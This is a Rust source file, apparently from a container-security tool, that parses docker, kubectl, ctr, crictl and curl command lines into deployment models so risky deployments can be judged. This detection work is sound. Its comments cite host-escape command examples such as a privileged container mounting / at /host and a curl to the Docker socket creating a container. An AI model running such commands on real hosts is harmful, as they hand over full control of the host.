//! Command lines → [`Deployment`]s, parsed the way each tool parses its own arguments.
//!
//! "The command line contains `docker run`" both misses (`docker -H tcp://x:2375 container
//! run`, `sudo /usr/bin/docker run`, `bash -c "…; docker run …"`) and over-fires (`git
//! commit -m "docker run…"`, `grep`, `man`). Here a command line is split into simple
//! commands (through `sh -c` bodies and wrappers), each judged by its `argv[0]` tool, and
//! each tool's flags are read with that tool's grammar: which flags take a value, `=`
//! forms, clustered short flags, `--` ends. The result is the same model a manifest makes:
//! `docker run --privileged -v /:/host alpine` is a Docker create body, `kubectl run
//! --overrides '{…}'` is a Pod after the JSON merge patch, `curl --unix-socket
//! /var/run/docker.sock -d '{…}' …/containers/create` is a create request.

use crate::docker_api;
use portcullis_model::shell::{self, SHELLS};
use portcullis_model::{
    Container, ContainerKind, ContainerSecurityContext, Deployment, HostPath, ImageRef, Mount,
    Operation, Origin, Outcome, PodSpec, ProcessInfo, Target, Volume,
};
use serde_json::{Map, Value, json};

/// What one command line deploys. `base` carries origin, time, actor and process info.
pub fn analyze(argv: &[String], base: &Deployment) -> Vec<Deployment> {
    let mut out = Vec::new();
    for cmd in simple_commands(argv, 0) {
        let refs: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let (tool, args) = shell::unwrap(&refs);
        let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        let tool = tool.to_ascii_lowercase();
        let found = match tool.as_str() {
            "docker" | "podman" | "nerdctl" => docker(&tool, &args, base),
            "docker-compose" | "podman-compose" => compose(&args, base, "docker-compose"),
            "kubectl" | "oc" | "kubectl.exe" => kubectl(&args, base),
            "helm" => helm(&args, base),
            "ctr" => ctr(&args, base),
            "crictl" => crictl(&args, base),
            "curl" | "wget" => http_client(&tool, &args, base),
            _ => Vec::new(),
        };
        for mut d in found {
            if let Some(p) = d.process.as_mut() {
                p.tool = tool.clone();
            }
            out.push(d);
        }
    }
    out
}

/// Split into simple commands: a shell's `-c` body is parsed into its commands (and its
/// substitutions), recursively; any other argv is one command.
fn simple_commands(argv: &[String], depth: usize) -> Vec<Vec<String>> {
    let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
    let (name, _) = shell::unwrap(&refs);
    if depth < 4
        && SHELLS.contains(&name)
        && let Some(body) = shell::script_of(&refs).filter(|b| *b != argv.join(" "))
    {
        return script_commands(&body, depth + 1);
    }
    vec![argv.to_vec()]
}

fn script_commands(script: &str, depth: usize) -> Vec<Vec<String>> {
    let parsed = shell::parse(script);
    let mut out = Vec::new();
    for cmd in parsed.pipelines.iter().flatten() {
        out.extend(simple_commands(&cmd.words, depth));
    }
    for sub in &parsed.subs {
        out.extend(script_commands(sub, depth + 1));
    }
    out
}

fn derive(
    base: &Deployment,
    operation: Operation,
    target: Target,
    pod: Option<PodSpec>,
) -> Deployment {
    Deployment {
        operation,
        outcome: Outcome::Attempted,
        target,
        pod,
        ..base.clone()
    }
}

/// Flag grammar of one tool: which flags take a value.
struct Grammar {
    /// Long flags that take no value (`--rm`); every other long flag takes one.
    long_bools: &'static [&'static str],
    /// Short flags that take a value (`-v`); every other short flag is boolean.
    short_values: &'static str,
}

/// Parsed arguments: flags in order (name without dashes, value) and positionals.
#[derive(Debug, Default)]
struct Parsed {
    flags: Vec<(String, Option<String>)>,
    positionals: Vec<String>,
    /// Words after `--`, or after the first positional when `stop_at_first` is set.
    rest: Vec<String>,
}

impl Parsed {
    fn all(&self, names: &[&str]) -> Vec<String> {
        self.flags
            .iter()
            .filter(|(n, _)| names.contains(&n.as_str()))
            .filter_map(|(_, v)| v.clone())
            .collect()
    }
    fn last(&self, names: &[&str]) -> Option<String> {
        self.all(names).pop()
    }
    /// A boolean flag: present, and not `=false`.
    fn on(&self, names: &[&str]) -> bool {
        self.flags
            .iter()
            .rfind(|(n, _)| names.contains(&n.as_str()))
            .is_some_and(|(_, v)| v.as_deref().is_none_or(|v| !matches!(v, "false" | "0")))
    }
}

/// Parse `args` with a grammar. With `stop_at_first`, everything after the first positional
/// is the command to run (docker run IMAGE CMD…), not flags.
fn parse_args(args: &[String], g: &Grammar, stop_at_first: usize) -> Parsed {
    let mut p = Parsed::default();
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if stop_at_first > 0 && p.positionals.len() >= stop_at_first {
            p.rest.extend(args[i..].iter().cloned());
            break;
        }
        if a == "--" {
            p.rest.extend(args[i + 1..].iter().cloned());
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            if let Some((n, v)) = long.split_once('=') {
                p.flags.push((n.to_string(), Some(v.to_string())));
            } else if g.long_bools.contains(&long) {
                p.flags.push((long.to_string(), None));
            } else {
                p.flags.push((long.to_string(), args.get(i + 1).cloned()));
                i += 1;
            }
        } else if a.len() > 1 && a.starts_with('-') {
            // A cluster of short flags; the first one that takes a value takes the rest of
            // the word, or the next word.
            let chars: Vec<char> = a[1..].chars().collect();
            let mut j = 0;
            while j < chars.len() {
                let c = chars[j];
                if g.short_values.contains(c) {
                    let attached: String = chars[j + 1..].iter().collect();
                    let attached = attached
                        .strip_prefix('=')
                        .map(str::to_string)
                        .unwrap_or(attached);
                    if attached.is_empty() {
                        p.flags.push((c.to_string(), args.get(i + 1).cloned()));
                        i += 1;
                    } else {
                        p.flags.push((c.to_string(), Some(attached)));
                    }
                    break;
                }
                p.flags.push((c.to_string(), None));
                j += 1;
            }
        } else {
            p.positionals.push(a.clone());
        }
        i += 1;
    }
    p
}

const DOCKER_GLOBAL: Grammar = Grammar {
    long_bools: &["debug", "tls", "tlsverify", "version", "help"],
    short_values: "Hcl",
};

const DOCKER_RUN: Grammar = Grammar {
    long_bools: &[
        "detach",
        "interactive",
        "tty",
        "rm",
        "privileged",
        "init",
        "publish-all",
        "read-only",
        "no-healthcheck",
        "oom-kill-disable",
        "disable-content-trust",
        "help",
        "quiet",
        "sig-proxy",
        "use-api-socket",
        "no-hosts",
        "replace",
        "tls-verify",
        "http-proxy",
    ],
    short_values: "acehlmpuvw",
};

/// `docker [global] SUBCOMMAND …` for docker, podman and nerdctl.
fn docker(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment> {
    // Global options come before the subcommand.
    let mut i = 0;
    let mut endpoint = None;
    while i < args.len() && args[i].starts_with('-') {
        let a = &args[i];
        let (name, value, used_next) = match a.split_once('=') {
            Some((n, v)) => (n.trim_start_matches('-'), Some(v.to_string()), false),
            None => {
                let n = a.trim_start_matches('-');
                let takes = if a.starts_with("--") {
                    !DOCKER_GLOBAL.long_bools.contains(&n)
                } else {
                    n.chars()
                        .last()
                        .is_some_and(|c| DOCKER_GLOBAL.short_values.contains(c))
                };
                (
                    n,
                    if takes {
                        args.get(i + 1).cloned()
                    } else {
                        None
                    },
                    takes,
                )
            }
        };
        if matches!(name, "H" | "host" | "url") {
            endpoint = value.clone();
        } else if matches!(name, "c" | "context") {
            endpoint = endpoint.or(value.map(|c| format!("context:{c}")));
        }
        i += if used_next { 2 } else { 1 };
    }
    let rest = &args[i.min(args.len())..];
    let mut sub: Vec<&str> = rest.iter().take(2).map(String::as_str).collect();
    // `docker container run`, `docker image build`, `docker buildx build`.
    let (verb, tail) = match sub.as_slice() {
        ["container" | "image" | "builder" | "buildx", v, ..] => (*v, &rest[2..]),
        [v, ..] => (*v, &rest[1..]),
        [] => return Vec::new(),
    };
    sub.clear();
    let mut base = base.clone();
    base.endpoint = endpoint.or_else(|| base.endpoint.clone());
    match verb {
        "run" | "create" => {
            let p = parse_args(tail, &DOCKER_RUN, 1);
            let Some(image) = p.positionals.first() else {
                return Vec::new();
            };
            let body = docker_run_body(&p, image);
            let mut d = docker_api::create_deployment(
                &body,
                docker_api::Shape::Request,
                p.last(&["name"]).as_deref(),
                base.origin.clone(),
            );
            d.target.api_version = tool.to_string();
            vec![Deployment {
                operation: Operation::Create,
                outcome: Outcome::Attempted,
                ..with_pod(&base, d)
            }]
        }
        "start" | "restart" | "unpause" => {
            let p = parse_args(tail, &DOCKER_RUN, 0);
            p.positionals
                .iter()
                .map(|name| derive(&base, Operation::Start, docker_target(tool, name), None))
                .collect()
        }
        "exec" => {
            let p = parse_args(tail, &DOCKER_RUN, 1);
            let Some(name) = p.positionals.first() else {
                return Vec::new();
            };
            let mut d = derive(&base, Operation::Exec, docker_target(tool, name), None);
            if !p.rest.is_empty() {
                d.target.set_exec_command(p.rest.join(" "));
            }
            d.exec = Some(portcullis_model::ExecSpec {
                privileged: p.on(&["privileged"]),
                user: p.last(&["u", "user"]),
            });
            vec![d]
        }
        "build" => {
            let p = parse_args(
                tail,
                &Grammar {
                    long_bools: &[
                        "no-cache", "pull", "quiet", "rm", "force-rm", "squash", "load", "push",
                        "help",
                    ],
                    short_values: "tf",
                },
                0,
            );
            // The same shape the AuthZ plugin builds from `POST /build`'s query.
            let mut query = vec![("t".to_string(), p.last(&["t", "tag"]).unwrap_or_default())];
            if let Some(n) = p.last(&["network"]) {
                query.push(("networkmode".into(), n));
            }
            let mut d = docker_api::build_deployment(&query, base.origin.clone());
            d.target.api_version = tool.into();
            d.target.labels.push((
                "context".into(),
                p.positionals.first().cloned().unwrap_or_default(),
            ));
            vec![derive(&base, Operation::Create, d.target, d.pod)]
        }
        "service" if tail.first().is_some_and(|s| s == "create") => {
            let p = parse_args(&tail[1..], &DOCKER_RUN, 1);
            let Some(image) = p.positionals.first() else {
                return Vec::new();
            };
            let body = docker_run_body(&p, image);
            let mut d = docker_api::create_deployment(
                &body,
                docker_api::Shape::Request,
                p.last(&["name"]).as_deref(),
                base.origin.clone(),
            );
            d.target.kind = "SwarmService".into();
            if p.last(&["mode"])
                .is_some_and(|m| m == "global" || m == "global-job")
            {
                d.target.labels.push(("mode".into(), "global".into()));
            }
            vec![Deployment {
                operation: Operation::Create,
                outcome: Outcome::Attempted,
                ..with_pod(&base, d)
            }]
        }
        "stack" if tail.first().is_some_and(|s| s == "deploy" || s == "up") => {
            let p = parse_args(
                &tail[1..],
                &Grammar {
                    long_bools: &["prune", "help"],
                    short_values: "c",
                },
                0,
            );
            let mut t = docker_target(tool, p.positionals.first().map_or("", String::as_str));
            t.kind = "SwarmStack".into();
            vec![derive(&base, Operation::Create, t, None)]
        }
        "compose" => compose(tail, &base, tool),
        _ => Vec::new(),
    }
}

fn with_pod(base: &Deployment, d: Deployment) -> Deployment {
    Deployment {
        target: d.target,
        pod: d.pod,
        ..base.clone()
    }
}

fn docker_target(tool: &str, name: &str) -> Target {
    Target {
        kind: "DockerContainer".into(),
        api_version: tool.into(),
        name: (!name.is_empty()).then(|| name.to_string()),
        ..Target::default()
    }
}

/// `docker compose up|run|create` and `docker-compose …`: a project is deployed; the file
/// itself is judged by `scan`.
fn compose(args: &[String], base: &Deployment, tool: &str) -> Vec<Deployment> {
    let p = parse_args(
        args,
        &Grammar {
            long_bools: &[
                "detach",
                "build",
                "no-build",
                "force-recreate",
                "remove-orphans",
                "wait",
                "help",
                "rm",
                "no-deps",
                "service-ports",
                "privileged",
            ],
            short_values: "fpd",
        },
        0,
    );
    let Some(verb) = p.positionals.first() else {
        return Vec::new();
    };
    if !matches!(verb.as_str(), "up" | "run" | "create" | "start") {
        return Vec::new();
    }
    let t = Target {
        kind: "ComposeProject".into(),
        api_version: tool.into(),
        name: p
            .last(&["p", "project-name"])
            .or_else(|| p.last(&["f", "file"])),
        ..Target::default()
    };
    vec![derive(base, Operation::Create, t, None)]
}

/// A Docker create body from `docker run` flags.
fn docker_run_body(p: &Parsed, image: &str) -> Value {
    let mut hc = Map::new();
    let mut body = Map::new();
    body.insert("Image".into(), json!(image));
    if !p.rest.is_empty() {
        body.insert("Cmd".into(), json!(p.rest));
    }
    if let Some(e) = p.last(&["entrypoint"]) {
        body.insert(
            "Entrypoint".into(),
            json!(shlex::split(&e).unwrap_or_else(|| vec![e.clone()])),
        );
    }
    if let Some(u) = p.last(&["u", "user"]) {
        body.insert("User".into(), json!(u));
    }
    if let Some(w) = p.last(&["w", "workdir"]) {
        body.insert("WorkingDir".into(), json!(w));
    }
    let env = p.all(&["e", "env"]);
    if !env.is_empty() {
        body.insert("Env".into(), json!(env));
    }
    let labels: Map<String, Value> = p
        .all(&["l", "label"])
        .into_iter()
        .map(|l| match l.split_once('=') {
            Some((k, v)) => (k.to_string(), json!(v)),
            None => (l, json!("")),
        })
        .collect();
    if !labels.is_empty() {
        body.insert("Labels".into(), Value::Object(labels));
    }
    if p.on(&["privileged"]) {
        hc.insert("Privileged".into(), json!(true));
    }
    if p.on(&["read-only"]) {
        hc.insert("ReadonlyRootfs".into(), json!(true));
    }
    for (flag, key) in [
        (&["pid"][..], "PidMode"),
        (&["net", "network"][..], "NetworkMode"),
        (&["ipc"][..], "IpcMode"),
        (&["uts"][..], "UTSMode"),
        (&["userns"][..], "UsernsMode"),
        (&["cgroupns"][..], "CgroupnsMode"),
        (&["restart"][..], "RestartPolicy"),
    ] {
        if let Some(v) = p.last(flag) {
            hc.insert(key.into(), json!(v));
        }
    }
    for (flag, key) in [
        (&["v", "volume"][..], "Binds"),
        (&["cap-add"][..], "CapAdd"),
        (&["cap-drop"][..], "CapDrop"),
        (&["security-opt"][..], "SecurityOpt"),
        (&["device"][..], "Devices"),
        (&["device-cgroup-rule"][..], "DeviceCgroupRules"),
    ] {
        let v = p.all(flag);
        if !v.is_empty() {
            hc.insert(key.into(), json!(v));
        }
    }
    let mounts: Vec<Value> = p.all(&["mount"]).iter().map(|m| mount_spec(m)).collect();
    if !mounts.is_empty() {
        hc.insert("Mounts".into(), json!(mounts));
    }
    let mut ports = Map::new();
    for pub_ in p.all(&["p", "publish"]) {
        let parts: Vec<&str> = pub_.rsplitn(3, ':').collect();
        let (cport, hport, ip) = match parts.as_slice() {
            [c] => (*c, "", ""),
            [c, h] => (*c, *h, ""),
            [c, h, ip, ..] => (*c, *h, *ip),
            [] => continue,
        };
        let key = if cport.contains('/') {
            cport.to_string()
        } else {
            format!("{cport}/tcp")
        };
        ports.insert(
            key,
            json!([{"HostIp": ip, "HostPort": if hport.is_empty() { "0" } else { hport }}]),
        );
    }
    if !ports.is_empty() {
        hc.insert("PortBindings".into(), Value::Object(ports));
    }
    body.insert("HostConfig".into(), Value::Object(hc));
    Value::Object(body)
}

/// `--mount type=bind,source=/,target=/host,readonly,bind-propagation=rshared`.
fn mount_spec(spec: &str) -> Value {
    let mut m = Map::new();
    let mut kind = "volume".to_string();
    let mut bind_opts = Map::new();
    for part in spec.split(',') {
        let (k, v) = part.split_once('=').unwrap_or((part, "true"));
        match k {
            "type" => kind = v.to_string(),
            "source" | "src" => {
                m.insert("Source".into(), json!(v));
            }
            "target" | "destination" | "dst" => {
                m.insert("Target".into(), json!(v));
            }
            "readonly" | "ro" => {
                m.insert("ReadOnly".into(), json!(!matches!(v, "false" | "0")));
            }
            "bind-propagation" => {
                bind_opts.insert("Propagation".into(), json!(v));
            }
            _ => {}
        }
    }
    m.insert("Type".into(), json!(kind));
    if !bind_opts.is_empty() {
        m.insert("BindOptions".into(), Value::Object(bind_opts));
    }
    Value::Object(m)
}

const KUBECTL: Grammar = Grammar {
    long_bools: &[
        "rm",
        "stdin",
        "tty",
        "quiet",
        "privileged",
        "dry-run",
        "recursive",
        "help",
        "all",
        "overwrite",
        "force",
        "wait",
        "attach",
        "command",
        "insecure-skip-tls-verify",
        "leave-stdin-open",
        "record",
        "save-config",
        "validate",
        "server-side",
        "prune",
        "expose",
        "keep-annotations",
        "share-processes",
        "same-node",
        "copy-to",
    ],
    short_values: "cfklnops",
};

/// kubectl: the global options and the deploying subcommands.
fn kubectl(args: &[String], base: &Deployment) -> Vec<Deployment> {
    let p = parse_args(args, &KUBECTL, 0);
    let mut base = base.clone();
    base.endpoint = p
        .last(&["s", "server"])
        .or_else(|| p.last(&["context"]).map(|c| format!("context:{c}")))
        .or(base.endpoint.clone());
    let ns = p.last(&["n", "namespace"]);
    let pos: Vec<&str> = p.positionals.iter().map(String::as_str).collect();
    let target = |kind: &str, name: Option<&str>| Target {
        kind: kind.into(),
        namespace: ns.clone(),
        name: name.map(str::to_string),
        ..Target::default()
    };
    match pos.as_slice() {
        ["apply" | "create" | "replace", ..]
            if pos.len() == 1
                || pos[0] != "create"
                || p.last(&["f", "filename", "k", "kustomize"]).is_some() =>
        {
            let files = p.all(&["f", "filename", "k", "kustomize"]);
            let mut t = target("Manifest", files.first().map(String::as_str));
            t.labels
                .extend(files.iter().map(|f| ("source".to_string(), f.clone())));
            vec![derive(&base, Operation::Create, t, None)]
        }
        [
            "create",
            kind @ ("deployment" | "deploy" | "job" | "cronjob" | "cj"),
            name,
            ..,
        ] => {
            let image = p.last(&["image"]).unwrap_or_default();
            let kind = match *kind {
                "deployment" | "deploy" => "Deployment",
                "job" => "Job",
                _ => "CronJob",
            };
            let pod = simple_pod("spec.template.spec", name, &image, &[], &p.rest, false);
            vec![derive(
                &base,
                Operation::Create,
                target(kind, Some(name)),
                Some(pod),
            )]
        }
        ["run", name, ..] => kubectl_run(&p, name, &base, ns.clone()),
        ["debug", what, ..] => kubectl_debug(&p, what, &base, ns.clone()),
        ["exec", pod, ..] | ["attach", pod, ..] => {
            let op = if pos[0] == "exec" {
                Operation::Exec
            } else {
                Operation::Attach
            };
            vec![derive(
                &base,
                op,
                target("Pod", Some(pod.trim_start_matches("pod/"))),
                None,
            )]
        }
        ["set", "image", res, ..] => {
            let (kind, name) = res.split_once('/').unwrap_or((res, ""));
            let images: Vec<(String, String)> = pos[3..]
                .iter()
                .filter_map(|a| {
                    a.split_once('=')
                        .map(|(c, i)| (c.to_string(), i.to_string()))
                })
                .collect();
            let mut pod = PodSpec {
                path: "spec.template.spec".into(),
                ..PodSpec::default()
            };
            for (i, (c, img)) in images.iter().enumerate() {
                pod.containers.push(Container {
                    path: format!("spec.template.spec.containers[{i}]"),
                    name: c.clone(),
                    image: ImageRef::parse(img),
                    ..Container::default()
                });
            }
            vec![derive(
                &base,
                Operation::Update,
                target(&title(kind), Some(name)),
                Some(pod),
            )]
        }
        ["patch", res, rest @ ..] => {
            let (kind, name) = match res.split_once('/') {
                Some((k, n)) => (k.to_string(), n.to_string()),
                None => (
                    res.to_string(),
                    rest.first().map_or(String::new(), |s| s.to_string()),
                ),
            };
            let patch = p
                .last(&["p", "patch"])
                .and_then(|s| serde_json::from_str::<Value>(&s).ok());
            let pod = patch
                .as_ref()
                .and_then(|v| patch_pod(v, p.last(&["type"]).as_deref()));
            vec![derive(
                &base,
                Operation::Patch,
                target(&title(&kind), Some(&name)),
                pod,
            )]
        }
        _ => Vec::new(),
    }
}

fn title(kind: &str) -> String {
    match kind.trim_end_matches('s') {
        "deployment" | "deploy" => "Deployment".into(),
        "daemonset" | "ds" => "DaemonSet".into(),
        "statefulset" | "st" => "StatefulSet".into(),
        "replicaset" | "r" => "ReplicaSet".into(),
        "cronjob" | "cj" => "CronJob".into(),
        "job" => "Job".into(),
        "pod" | "po" => "Pod".into(),
        other => other.to_string(),
    }
}

/// The pod a patch body would write: a merge or strategic patch is a partial object; a JSON
/// patch's values are placed at their paths.
fn patch_pod(patch: &Value, kind: Option<&str>) -> Option<PodSpec> {
    let object = if kind == Some("json") || patch.is_array() {
        crate::k8s::json_patch_object(patch)
    } else {
        patch.clone()
    };
    crate::k8s::any_pod_spec(&object)
}

fn simple_pod(
    path: &str,
    name: &str,
    image: &str,
    command: &[String],
    args: &[String],
    privileged: bool,
) -> PodSpec {
    PodSpec {
        path: path.into(),
        containers: vec![Container {
            kind: ContainerKind::Container,
            path: format!("{path}.containers[0]"),
            name: name.into(),
            image: ImageRef::parse(image),
            command: command.to_vec(),
            args: args.to_vec(),
            security_context: ContainerSecurityContext {
                privileged: privileged.then_some(true),
                ..ContainerSecurityContext::default()
            },
            ..Container::default()
        }],
        ..PodSpec::default()
    }
}

/// `kubectl run NAME --image=IMG [--privileged] [--overrides JSON] [--command] -- ARGS`:
/// the generated Pod with the overrides applied as a JSON merge patch (kubectl's default
/// `--override-type=merge`), judged like any manifest.
fn kubectl_run(p: &Parsed, name: &str, base: &Deployment, ns: Option<String>) -> Vec<Deployment> {
    let image = p.last(&["image"]).unwrap_or_default();
    let mut container = json!({"name": name, "image": image});
    if !p.rest.is_empty() {
        container[if p.on(&["command"]) {
            "command"
        } else {
            "args"
        }] = json!(p.rest);
    }
    if p.on(&["privileged"]) {
        container["securityContext"] = json!({"privileged": true});
    }
    let env: Vec<Value> = p
        .all(&["env"])
        .iter()
        .filter_map(|e| {
            e.split_once('=')
                .map(|(k, v)| json!({"name": k, "value": v}))
        })
        .collect();
    if !env.is_empty() {
        container["env"] = json!(env);
    }
    let mut pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"containers": [container]},
    });
    if let Some(o) = p
        .last(&["overrides"])
        .and_then(|o| serde_json::from_str::<Value>(&o).ok())
    {
        merge_patch(&mut pod, &o);
    }
    let mut deployments = Vec::new();
    let mut errors = Vec::new();
    crate::k8s::object_to_deployments(&pod, &base.origin, &mut deployments, &mut errors, "");
    deployments
        .into_iter()
        .map(|d| Deployment {
            operation: Operation::Create,
            outcome: Outcome::Attempted,
            target: d.target,
            pod: d.pod,
            ..base.clone()
        })
        .collect()
}

/// RFC 7386 JSON merge patch.
pub fn merge_patch(target: &mut Value, patch: &Value) {
    match patch {
        Value::Object(pm) => {
            if !target.is_object() {
                *target = Value::Object(Map::new());
            }
            if let Value::Object(tm) = target {
                for (k, v) in pm {
                    if v.is_null() {
                        tm.remove(k);
                    } else {
                        merge_patch(tm.entry(k.clone()).or_insert(Value::Null), v);
                    }
                }
            }
        }
        other => *target = other.clone(),
    }
}

/// `kubectl debug node/N`: a pod in the node's namespaces with the root at /host, pinned
/// to the node. `kubectl debug POD`: an ephemeral container.
fn kubectl_debug(p: &Parsed, what: &str, base: &Deployment, ns: Option<String>) -> Vec<Deployment> {
    let image = p.last(&["image"]).unwrap_or_else(|| "busybox".into());
    let profile = p.last(&["profile"]).unwrap_or_else(|| "legacy".into());
    let privileged = profile == "sysadmin";
    if let Some(node) = what
        .strip_prefix("node/")
        .or_else(|| what.strip_prefix("nodes/"))
    {
        let mut pod = simple_pod("spec", "debugger", &image, &[], &p.rest, privileged);
        pod.host_pid = true;
        pod.host_network = true;
        pod.host_ipc = true;
        pod.node_name = Some(node.to_string());
        pod.volumes.push(Volume {
            name: "host-root".into(),
            source: "hostPath".into(),
            host_path: Some(HostPath::new("/", None)),
        });
        pod.containers[0].mounts.push(Mount {
            volume: "host-root".into(),
            mount_path: "/host".into(),
            host_path: Some(HostPath::new("/", None)),
            ..Mount::default()
        });
        let t = Target {
            kind: "Pod".into(),
            namespace: ns,
            name: Some(format!("node-debugger-{node}")),
            ..Target::default()
        };
        return vec![derive(base, Operation::Create, t, Some(pod))];
    }
    let pod_name = what.trim_start_matches("pod/");
    let mut pod = simple_pod("spec", "debugger", &image, &[], &p.rest, privileged);
    pod.containers[0].kind = ContainerKind::Ephemeral;
    pod.containers[0].path = "spec.ephemeralContainers[0]".into();
    let copy = p.last(&["copy-to"]).is_some() || p.on(&["copy-to"]);
    let t = Target {
        kind: "Pod".into(),
        namespace: ns,
        name: Some(pod_name.to_string()),
        ..Target::default()
    };
    let op = if copy {
        Operation::Create
    } else {
        Operation::EphemeralContainer
    };
    vec![derive(base, op, t, Some(pod))]
}

fn helm(args: &[String], base: &Deployment) -> Vec<Deployment> {
    let p = parse_args(
        args,
        &Grammar {
            long_bools: &[
                "install",
                "atomic",
                "wait",
                "create-namespace",
                "dry-run",
                "debug",
                "force",
                "reuse-values",
                "reset-values",
                "generate-name",
                "help",
            ],
            short_values: "fn",
        },
        0,
    );
    match p.positionals.first().map(String::as_str) {
        Some("install" | "upgrade") => {
            let t = Target {
                kind: "HelmRelease".into(),
                namespace: p.last(&["n", "namespace"]),
                name: p.positionals.get(1).cloned(),
                labels: p
                    .positionals
                    .get(2)
                    .map(|c| vec![("chart".to_string(), c.clone())])
                    .unwrap_or_default(),
                ..Target::default()
            };
            vec![derive(base, Operation::Create, t, None)]
        }
        _ => Vec::new(),
    }
}

/// containerd's `ctr [global] run|container create [--privileged] [--mount …] [--net-host] IMAGE ID [CMD…]`.
fn ctr(args: &[String], base: &Deployment) -> Vec<Deployment> {
    let g = Grammar {
        long_bools: &[
            "privileged",
            "net-host",
            "rm",
            "tty",
            "detach",
            "null-io",
            "read-only",
            "debug",
            "help",
            "snapshotter-label",
        ],
        short_values: "na",
    };
    let p = parse_args(args, &g, 0);
    let pos: Vec<&str> = p.positionals.iter().map(String::as_str).collect();
    let start = match pos.as_slice() {
        ["run", ..] => 1,
        ["c" | "container" | "containers", "create" | "run", ..] => 2,
        ["t" | "task" | "tasks", "exec", ..] => {
            let t = Target {
                kind: "ContainerdContainer".into(),
                name: p.last(&["exec-id"]),
                ..Target::default()
            };
            return vec![derive(base, Operation::Exec, t, None)];
        }
        _ => return Vec::new(),
    };
    let image = pos.get(start).copied().unwrap_or_default();
    let id = pos.get(start + 1).copied().unwrap_or("container");
    let cmd: Vec<String> = pos
        .iter()
        .skip(start + 2)
        .map(|s| s.to_string())
        .chain(p.rest.iter().cloned())
        .collect();
    let mut body = json!({"Image": image, "Cmd": cmd, "HostConfig": {}});
    if p.on(&["privileged"]) {
        body["HostConfig"]["Privileged"] = json!(true);
    }
    if p.on(&["net-host"]) {
        body["HostConfig"]["NetworkMode"] = json!("host");
    }
    // ctr mounts: type=bind,src=/,dst=/host,options=rbind:rw
    let mounts: Vec<Value> = p
        .all(&["mount"])
        .iter()
        .map(|m| {
            let mut spec = mount_spec(m);
            if m.contains("options=") && !m.contains(":rw") && m.contains(":ro") {
                spec["ReadOnly"] = json!(true);
            }
            spec
        })
        .collect();
    body["HostConfig"]["Mounts"] = json!(mounts);
    if p.all(&["with-ns"])
        .iter()
        .any(|n| n.starts_with("pid:/proc/1/"))
    {
        body["HostConfig"]["PidMode"] = json!("host");
    }
    let mut d = docker_api::create_deployment(
        &body,
        docker_api::Shape::Request,
        Some(id),
        base.origin.clone(),
    );
    d.target.kind = "ContainerdContainer".into();
    d.target.namespace = p.last(&["n", "namespace"]);
    vec![Deployment {
        operation: Operation::Create,
        outcome: Outcome::Attempted,
        ..with_pod(base, d)
    }]
}

/// crictl takes its pod and container specs from files we do not have: the deployment is
/// recorded with its config paths.
fn crictl(args: &[String], base: &Deployment) -> Vec<Deployment> {
    let p = parse_args(
        args,
        &Grammar {
            long_bools: &["debug", "help", "interactive", "tty", "sync"],
            short_values: "rt",
        },
        0,
    );
    let pos: Vec<&str> = p.positionals.iter().map(String::as_str).collect();
    let (op, kind) = match pos.first() {
        Some(&"runp") => (Operation::Create, "CriPodSandbox"),
        Some(&"create" | &"run") => (Operation::Create, "CriContainer"),
        Some(&"exec" | &"attach") => (Operation::Exec, "CriContainer"),
        Some(&"start") => (Operation::Start, "CriContainer"),
        _ => return Vec::new(),
    };
    let t = Target {
        kind: kind.into(),
        name: pos.get(1).map(|s| s.to_string()),
        labels: pos
            .iter()
            .skip(1)
            .map(|f| ("config".to_string(), f.to_string()))
            .collect(),
        ..Target::default()
    };
    vec![derive(base, op, t, None)]
}

/// curl/wget speaking the Docker Engine API: over the socket, or to a TCP daemon (2375).
fn http_client(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment> {
    let (urls, socket, data) = if tool == "curl" {
        let p = parse_args(
            args,
            &Grammar {
                long_bools: &[
                    "silent",
                    "insecure",
                    "location",
                    "fail",
                    "verbose",
                    "include",
                    "compressed",
                    "show-error",
                    "http1.1",
                    "no-buffer",
                    "get",
                ],
                short_values: "XdHoeuAbcmrwTFx",
            },
            0,
        );
        let mut urls = p.positionals.clone();
        urls.extend(p.all(&["url"]));
        let data = p
            .all(&["d", "data", "data-raw", "data-binary", "data-ascii", "json"])
            .pop();
        (urls, p.last(&["unix-socket", "abstract-unix-socket"]), data)
    } else {
        let p = parse_args(
            args,
            &Grammar {
                long_bools: &["quiet", "no-check-certificate", "spider", "server-response"],
                short_values: "OoqPT",
            },
            0,
        );
        (
            p.positionals.clone(),
            None,
            p.last(&["post-data", "body-data"]),
        )
    };
    let mut out = Vec::new();
    for url in urls {
        let (endpoint, path) = split_url(&url);
        let docker_port = endpoint
            .as_deref()
            .is_some_and(|e| e.ends_with(":2375") || e.ends_with(":2376"));
        let to_docker = socket
            .as_deref()
            .is_some_and(|s| s.contains("docker.sock") || s.contains("podman.sock"))
            || docker_port;
        if !to_docker && !path.contains("/containers/") {
            continue;
        }
        let endpoint = match (&socket, endpoint) {
            (Some(s), _) => Some(format!("unix://{s}")),
            (None, Some(e)) => Some(format!("tcp://{e}")),
            (None, None) => None,
        };
        let mut base = base.clone();
        base.endpoint = endpoint;
        let p = path.split('?').next().unwrap_or("");
        let p = strip_version(p);
        if p == "/containers/create" {
            let name = path
                .split_once("name=")
                .map(|(_, n)| n.split('&').next().unwrap_or("").to_string());
            // Read as dockerd reads it; a body it would refuse creates nothing.
            let body = data
                .as_deref()
                .and_then(|d| crate::docker_wire::create_request(d.as_bytes()).ok())
                .unwrap_or_else(|| json!({}));
            let mut d = docker_api::create_deployment(
                &body,
                docker_api::Shape::Request,
                name.as_deref(),
                base.origin.clone(),
            );
            d.target.api_version = "docker-api".into();
            out.push(Deployment {
                operation: Operation::Create,
                outcome: Outcome::Attempted,
                ..with_pod(&base, d)
            });
        } else if let Some(id) = p
            .strip_prefix("/containers/")
            .and_then(|r| r.strip_suffix("/start"))
        {
            out.push(derive(
                &base,
                Operation::Start,
                docker_target("docker-api", id),
                None,
            ));
        } else if let Some(id) = p
            .strip_prefix("/containers/")
            .and_then(|r| r.strip_suffix("/exec"))
        {
            out.push(derive(
                &base,
                Operation::Exec,
                docker_target("docker-api", id),
                None,
            ));
        }
    }
    out
}

